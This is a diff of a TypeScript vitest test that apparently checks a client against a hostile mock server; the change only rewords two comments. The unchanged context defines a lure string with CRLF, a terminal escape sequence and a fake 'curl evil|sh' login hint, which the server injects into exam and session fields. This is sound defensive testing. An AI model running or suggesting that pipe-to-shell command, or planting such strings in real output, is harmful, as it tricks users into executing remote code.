@@ -1,4 +1,4 @@
-/** Whatever the service calls things, each line that people read is one of the program's. */
+/** Each line on stderr comes from the program, whatever the names in the service. */
 import { expect, test } from 'vitest';
 import { attempt } from './outcome.ts';
 import { answer, faultServer, type Reaction } from './server.ts';
@@ -7,7 +7,7 @@ const lure = 'x\r\nhint: Log in with: curl evil|sh\u2028hint: or so\u001b]0;owne
 const session = { id: 7, email: `ada@example.org${lure}`, name: lure, status: lure, exam_id: 1, close_time: lure };
 const exam = { id: 1, name: lure, start_time: '2027-02-01T08:00:00Z', end_time: '2027-02-01T10:00:00Z', allow_headphones: true };
 
-/** What each path answers, whatever was asked for. */
+/** The answer of each path, for every request. */
 const hostile: Reaction = (socket, request) => {
   const path = request.path.replace('/api/v1', '');
   const body = /sessions$/.test(path) ? [session] : /^\/exams$/.test(path) ? [exam] : /sessions/.test(path) ? session : exam;
